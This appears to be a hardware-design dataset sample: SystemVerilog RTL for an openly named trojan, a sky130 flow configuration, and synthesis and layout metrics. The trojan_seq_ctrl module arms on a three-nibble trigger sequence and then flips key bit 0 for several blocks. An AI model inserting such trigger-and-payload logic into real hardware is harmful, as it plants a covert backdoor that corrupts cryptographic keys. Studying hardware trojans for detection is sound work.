==> src/rtl/trojan_pkg.sv <==
// Shared types and constants for the sequential key-path trigger controller.
package trojan_pkg;

    typedef enum logic [1:0] {
        IDLE   = 2'd0,
        S1     = 2'd1,
        S2     = 2'd2,
        ACTIVE = 2'd3
    } state_t;

    localparam logic [3:0] SEQ0_DEFAULT = 4'hA;
    localparam logic [3:0] SEQ1_DEFAULT = 4'h5;
    localparam logic [3:0] SEQ2_DEFAULT = 4'h3;

    // Trigger bus is numbered [1:32]; the watched nibble is its MSB end.
    localparam int TRIG_NIB_MSB = 1;
    localparam int TRIG_NIB_LSB = 4;

endpackage

==> src/rtl/trojan_gap_timer.sv <==
// Saturating idle-cycle counter; flags expiry on the cycle the count would reach the limit.
module trojan_gap_timer #(
    parameter int GAP_TIMEOUT = 64
) (
    input  logic clk,
    input  logic rst_n,
    input  logic clear,
    input  logic enable,
    output logic expired
);

    localparam int CW = $clog2(GAP_TIMEOUT + 1);
    localparam logic [CW-1:0] LAST = CW'(GAP_TIMEOUT - 1);
    localparam logic [CW-1:0] SAT  = CW'(GAP_TIMEOUT);

    logic [CW-1:0] count_reg;
    logic [CW-1:0] count_next;

    // A beat in the expiry cycle takes priority, so clear masks expiry.
    assign expired = enable && !clear && (count_reg == LAST);

    always_comb begin
        count_next = count_reg;
        if (clear || !enable || expired) begin
            count_next = '0;
        end else if (count_reg != SAT) begin
            count_next = count_reg + 1'b1;
        end
    end

    always_ff @(posedge clk or negedge rst_n) begin
        if (!rst_n) begin
            count_reg <= '0;
        end else begin
            count_reg <= count_next;
        end
    end

endmodule

==> src/rtl/trojan_seq_ctrl.sv <==
// Arms on a three-nibble trigger sequence, then flips key bit 0 for a bounded run of blocks.
module trojan_seq_ctrl
    import trojan_pkg::*;
#(
    parameter logic [3:0] SEQ0          = SEQ0_DEFAULT,
    parameter logic [3:0] SEQ1          = SEQ1_DEFAULT,
    parameter logic [3:0] SEQ2          = SEQ2_DEFAULT,
    parameter int         ACTIVE_BLOCKS = 4,
    parameter int         GAP_TIMEOUT   = 64
) (
    input  logic        clk,
    input  logic        rst_n,
    input  logic        blk_valid,
    input  logic [55:0] key,
    input  logic [1:32] trigger,
    output logic [55:0] payload,
    output logic        armed,
    output logic [7:0]  remaining
);

    state_t     state_reg;
    state_t     state_next;
    logic [7:0] remaining_reg;
    logic [7:0] remaining_next;
    logic       armed_reg;
    logic       armed_next;
    logic       gap_expired;
    logic       in_seq;
    logic [3:0] nib;
    logic       unused_trig;

    assign nib         = trigger[TRIG_NIB_MSB:TRIG_NIB_LSB];
    assign unused_trig = ^trigger[TRIG_NIB_LSB+1:32];
    assign in_seq      = (state_reg == S1) || (state_reg == S2);

    trojan_gap_timer #(
        .GAP_TIMEOUT (GAP_TIMEOUT)
    ) u_gap_timer (
        .clk     (clk),
        .rst_n   (rst_n),
        .clear   (blk_valid),
        .enable  (in_seq),
        .expired (gap_expired)
    );

    always_comb begin
        state_next     = state_reg;
        remaining_next = remaining_reg;
        case (state_reg)
            IDLE: begin
                if (blk_valid && nib == SEQ0) begin
                    state_next = S1;
                end
            end
            S1: begin
                if (blk_valid) begin
                    if (nib == SEQ1)      state_next = S2;
                    else if (nib == SEQ0) state_next = S1;
                    else                  state_next = IDLE;
                end else if (gap_expired) begin
                    state_next = IDLE;
                end
            end
            S2: begin
                if (blk_valid) begin
                    if (nib == SEQ2) begin
                        state_next     = ACTIVE;
                        remaining_next = 8'(ACTIVE_BLOCKS);
                    end else if (nib == SEQ0) begin
                        state_next = S1;
                    end else begin
                        state_next = IDLE;
                    end
                end else if (gap_expired) begin
                    state_next = IDLE;
                end
            end
            ACTIVE: begin
                // Trigger nibbles are deliberately ignored here: no re-arm, no extension.
                if (blk_valid) begin
                    if (remaining_reg == 8'd1) begin
                        state_next     = IDLE;
                        remaining_next = '0;
                    end else begin
                        remaining_next = remaining_reg - 8'd1;
                    end
                end
            end
            default: begin
                state_next     = IDLE;
                remaining_next = '0;
            end
        endcase
        armed_next = (state_next == ACTIVE);
    end

    always_ff @(posedge clk or negedge rst_n) begin
        if (!rst_n) begin
            state_reg     <= IDLE;
            remaining_reg <= '0;
            armed_reg     <= 1'b0;
        end else begin
            state_reg     <= state_next;
            remaining_reg <= remaining_next;
            armed_reg     <= armed_next;
        end
    end

    assign armed     = armed_reg;
    assign remaining = remaining_reg;
    assign payload   = {key[55:1], key[0] ^ armed_reg};

endmodule

==> config.mk <==
export PLATFORM = sky130hd
export DESIGN_NAME = trojan_seq_ctrl
export DESIGN_NICKNAME = d
export VERILOG_FILES = /design/src/rtl/trojan_pkg.sv /design/src/rtl/trojan_gap_timer.sv /design/src/rtl/trojan_seq_ctrl.sv
export SDC_FILE = /design/constraint.sdc
export NUM_CORES = 1
export LEC_CHECK = 0
export ABC_AREA = 0
export CAP_MARGIN = 40
export CORE_MARGIN = 5
export CORE_UTILIZATION = 31
export CTS_BUF_LIST = sky130_fd_sc_hd__clkbuf_8
export CTS_CLUSTER_DIAMETER = 40
export CTS_CLUSTER_SIZE = 30
export DETAILED_ROUTE_END_ITERATION = 12
export GPL_TIMING_DRIVEN = 0
export PLACE_DENSITY = 0.83
export SLEW_MARGIN = 10
export SYNTH_ARGS = -nofsm -noshare
export SYNTH_HDL_FRONTEND = slang
export SYNTH_SLANG_ARGS = --single-unit
==> constraint.sdc <==
create_clock -name clk -period 2.12 [get_ports clk]
set_input_delay 0.636 -clock clk [delete_from_list [all_inputs] [get_ports clk]]
set_output_delay 0.636 -clock clk [all_outputs]
set_load 0.02 [all_outputs]
==> results summary <==
The worst setup path is of the in -> reg kind. The register area share after synthesis is 27.73%. The synthesized cell area came out at 1624 um^2. The run finished with clean final reports. For this run the aggregate overflow at the end of global routing stands at 0. TritonCTS created 3 clock buffers. The leakage power is 1.133 nW.

The clock passes through at most 2 buffers. The critical path runs through a total of 5 cells. The worst-case hold slack came out at 0.5593 ns. The post-synthesis to final-layout area growth came out at 53.85%.

CTS built an H-tree with a depth of 1. The arrival time at the worst endpoint is 2.23 ns. The largest fanout on the critical path came out at 8. The number of global-route vias before repair is 1466. The number of cells traversed by the worst register-to-register path is 6.

The final critical path time including I/O delays and setup came out at 2.043 ns. Setup repair after global routing left no endpoint under its margin. The total detailed-routing wirelength is 4265 um. The fmax is 489.5 MHz. Counting both buffers and inverters, the worst setup path holds a total of 1. The initial core utilization is 31.80%. The starting DRC count in detailed routing is 51. In this run the cell area measured after placement is 2447 um^2.

The post-synth net total came out at 279. The final routed DRC violation total came out at 0. The final count of hold timing violations was 0. The utilization after layout came out at 48.92%.

Cells with a size suffix above 1 make up 27.24% of the layout. The repair_antennas step left the layout with diodes totalling 0. The delay of the slowest critical-path stage is 0.52 ns. The pin count of the biggest net entering global routing is 14. The antenna violation net count after detailed routing came out at 0.

The total via count in the routed design is 1493. The required time at the worst-slack endpoint is 2.30 ns. The number of optimization iterations in the first detailed-route pass is 5. The number of cells traversed by the worst hold path is 1. The per-instance average area after synthesis is 9.023 um^2. The worst slew slack as a fraction of its limit came out at 62.64%.

The die is 82.38 um wide. The count of synthesis-stage warnings from yosys is 0. The tool flagged a number of max-cap violations equal to 0. The number of sinks handled by clock tree synthesis is 18. The cell sitting at the root of the clock tree is a sky130_fd_sc_hd__clkbuf_8. In this run the vertical extent of the chip is 82.38 um.

Of all flip-flops after synthesis, the portion carrying an async set or reset was 100.0%. The final instance area came out at 2499 um^2. The clock transition at the registers of the reported paths came out at 0.07 ns. The most used flip-flop cell after synthesis is sky130_fd_sc_hd__dfrtp_1. The worst setup path is captured at a register. The area of the core region came out at 5107 um^2. The final-layout fill cell count came out at 478. Among all stages on the critical path, the largest delay is contributed by sky130_fd_sc_hd__clkdlybuf4s50_1. After clock tree synthesis, the setup repair step added 0 buffers.

The floorplan has 26 rows. The count of pins over their slew limit came out at 0. The final HPWL from detailed placement is 3488 um. The number of unique standard cell types used by synthesis came out at 43. The via density per instance is 4.566. The routability congestion estimate from global placement is 0.8287.

The first-pass GRT wire length came out at 6430 um. At the pin with the least slew margin, the transition time is 0.5546 ns. The final critical path takes up 96.36% of the cycle. Yosys mapped a number of flops with a built-in enable equal to 0. In the final routed layout, each cell accounts on average for 13.04 um.

Across all register-to-register paths, the minimum setup slack is 0.18 ns. Power spread over the standard cell area amounts to 634.0 nW/um^2. The worst setup path is launched from a primary input. Across the routed clock network, the largest skew measured is 0.003720 ns. The flop and latch count out of synthesis is 18. The kind of cell with the highest combined delay along the critical path is buffers and inverters. The number of port buffers came out at 72. Synthesis handed over a netlist of 180 instances. The clock latency of the later-clocked register in the worst-skew pair is 0.26 ns. The floorplan step defined a die boundary enclosing 6786 um^2. The signal on the critical path passes through clkdlybuf4s50_1 -> nand2b_4 -> o32ai_4 -> and2_1 -> mux2i_1. The flip-flop count of the largest register after layout is 8. The total I/O pin count came out at 156. The maximum resistive drop on vdd came out at 270.0 uV. The net count reported at finish came out at 357. The initial antenna violation count was 0. The worst hold path belongs to the class reg -> reg. Setup violations remaining at the end of the flow were counted as 0. Global routing used 11.85% of the available tracks.

TritonCTS built the clock tree.
where the power goes:
| part | leakage [nW] | switching (mW) | total (mW) | internal [mW] |
|---|---|---|---|---|
| combinational | 0.869 | 0.406 | 0.810 | 0.404 |
| clock | 0.0288 | 0.120 | 0.285 | 0.165 |
| sequential | 0.234 | 0.0830 | 0.489 | 0.406 |
| total | 1.13 | 0.609 | 1.58 | 0.975 |
repair_timing:
| action | CTS | global route |
|---|---|---|
| pin swaps | 0 | 0 |
| hold buffers | 0 | 0 |
| resized for setup | 4 | 1 |
| setup endpoints to repair | 1 | 1 |
placed cells by master (no fill, tap or decap), types with 3 or more instances in the layout:
| cell type | Yosys | final |
|---|---|---|
| sky130_fd_sc_hd__clkdlybuf4s50_1 | 0 | 71 |
| sky130_fd_sc_hd__buf_4 | 55 | 55 |
| sky130_fd_sc_hd__dfrtp_1 | 18 | 17 |
| sky130_fd_sc_hd__nor2_1 | 11 | 11 |
| sky130_fd_sc_hd__inv_1 | 9 | 9 |
| sky130_fd_sc_hd__nand2_1 | 8 | 8 |
| sky130_fd_sc_hd__ha_1 | 8 | 8 |
| sky130_fd_sc_hd__nor3_1 | 6 | 6 |
| sky130_fd_sc_hd__o21ai_0 | 4 | 4 |
| sky130_fd_sc_hd__nand2b_1 | 4 | 4 |
| sky130_fd_sc_hd__xor2_1 | 4 | 4 |
| sky130_fd_sc_hd__and2_1 | 4 | 4 |
| sky130_fd_sc_hd__o211ai_1 | 4 | 4 |
| sky130_fd_sc_hd__clkbuf_8 | 0 | 4 |
| sky130_fd_sc_hd__and3_1 | 3 | 3 |
| sky130_fd_sc_hd__nand3_1 | 3 | 3 |
| sky130_fd_sc_hd__mux2i_1 | 3 | 3 |
| sky130_fd_sc_hd__a31o_2 | 3 | 3 |
| sky130_fd_sc_hd__o2bb2ai_1 | 3 | 3 |
worst paths after layout:
| check | from | endpoint |
|---|---|---|
| max in group asynchronous | rst_n | remaining[2] |
| hold reg to reg | u_gap_timer.count_reg[6] | u_gap_timer.count_reg[6] |
| setup reg to reg | state_reg[0] | remaining[1] |
| min in group asynchronous | rst_n | remaining[7] |
| setup / recovery | trigger[3] | remaining[1] |
| hold / removal | u_gap_timer.count_reg[6] | u_gap_timer.count_reg[6] |
cells in the mapped netlist (all sizes together), types with 2 or more instances:
| cell | n | area share (%) |
|---|---|---|
| mux2i | 3 | 1.8 |
| o211ai | 4 | 1.8 |
| o21ai | 5 | 1.5 |
| nand3b | 2 | 0.92 |
| a211oi | 2 | 0.92 |
| nor2 | 11 | 2.5 |
| a31o | 3 | 1.6 |
| o2bb2ai | 3 | 1.6 |
| nor3 | 6 | 1.8 |
| xor2 | 4 | 2.2 |
| nand3 | 3 | 0.92 |
| dfrtp | 18 | 28 |
| nor4 | 2 | 1.7 |
| xnor2 | 2 | 1.1 |
| inv | 9 | 2.1 |
| buf | 56 | 26 |
| a22oi | 2 | 0.92 |
| and2 | 4 | 1.5 |
| and3 | 3 | 1.2 |
| nand2 | 8 | 1.8 |
| nand2b | 5 | 2.4 |
| ha | 8 | 6.2 |
metal layers:
metal  part of all wire [%]  track usage [%]  wire [um]  up-vias
met4                    1.8            5.648         78        0
li1                       -                -          -      722
met5                      0                0          0        -
met3                     12            2.278        493        6
met1                     38            14.63       1627      681
met2                     48            19.71       2065       84
through the flow:
step	worst slack, ns	total power [mW]	setup TNS (ns)	instances
after floorplan	0.4635	1.001	0	180
after CTS	0.03764	1.606	0	327
after detailed placement	-0.3725	1.313	-1.544	323
after global routing	0.004099	1.704	0	327
after global placement	-0.3731	1.284	-1.136	322
final	0.07719	1.584	0	327
cell type report:
class | instances | area (um^2) | share of cell area, %
buffer | 56 | 417.9 | 16.73
clock buffer | 4 | 55.05 | 2.203
inverter | 9 | 33.78 | 1.352
multi-input combinational | 97 | 721.9 | 28.89
sequential | 18 | 451.7 | 18.08
tap | 70 | 87.58 | 3.505
timing repair buffer | 73 | 730.7 | 29.24
cell families (layout without fill, tap and decap cells):
| family | count (synthesis) | in the layout | synth area share [%] |
|---|---|---|---|
| buffers and inverters | 65 | 142 | 27.81 |
| flip-flops | 18 | 18 | 27.73 |
| AND/OR/NAND/NOR | 51 | 51 | 18.87 |
| AO/OA/AOI/OAI | 29 | 29 | 14.33 |
| adder cells (fa/ha/maj) | 8 | 8 | 6.164 |
| multiplexers | 3 | 3 | 1.849 |
| XOR/XNOR | 6 | 6 | 3.236 |
No activity file was read; power rests on OpenSTA's default activity.
